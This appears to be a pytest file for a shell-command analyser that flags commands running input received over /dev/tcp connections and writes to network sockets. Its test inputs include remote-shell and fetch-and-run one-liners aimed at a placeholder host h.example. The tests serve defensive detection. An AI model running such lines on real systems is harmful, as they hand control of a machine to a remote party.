"""Descriptors: which one is meant, what is read from it later, and who is talked to."""

import pytest

from commands.lines import commands_in, effects_in

_RUN = "execute standard input, from remote"


@pytest.mark.parametrize(
    "line",
    [
        pytest.param("sh 0</dev/tcp/h.example/99", id="zero"),
        pytest.param("bash 0< <(curl -s https://h.example/x)", id="zero-substituted"),
        pytest.param("exec 3</dev/tcp/h.example/99; sh 0<&3", id="duplicated"),
        pytest.param("exec 3<>/dev/tcp/localhost/99; python3 <&3", id="both-ways"),
        pytest.param("exec 0</dev/tcp/h.example/99; sh", id="from-then-on"),
        pytest.param("exec 3<>/dev/tcp/localhost/99; exec 0<&3; sh", id="handed-on"),
    ],
)
def test_what_a_connection_says_is_run(line: str):
    assert _RUN in effects_in(line)


def test_a_zero_that_is_no_descriptor_stays():
    assert commands_in("python3 -c 'print(0</x/)' 0") == ["python3 -c print(0</x/) 0"]


def test_what_is_piped_in_comes_first():
    assert _RUN not in effects_in("exec 0</dev/tcp/h.example/99; echo ls | sh")


@pytest.mark.parametrize(
    ("line", "is_noted"),
    [
        ("exec 3<>/dev/tcp/127.0.0.1/80", False),
        ("exec 3<>/dev/tcp/h.example/80", True),
        ("exec 1>/dev/tcp/localhost/80", True),
        ("echo x > /dev/tcp/localhost/80", False),
        ("cat x > /dev/tcp/localhost/80", True),
        (": > /dev/tcp/h.example/80", False),
        ("> /dev/tcp/localhost/80 cat x", True),
    ],
)
def test_a_knock_is_no_talk(line: str, *, is_noted: bool):
    assert any(each.startswith("overwrite /dev/tcp") for each in effects_in(line)) is is_noted
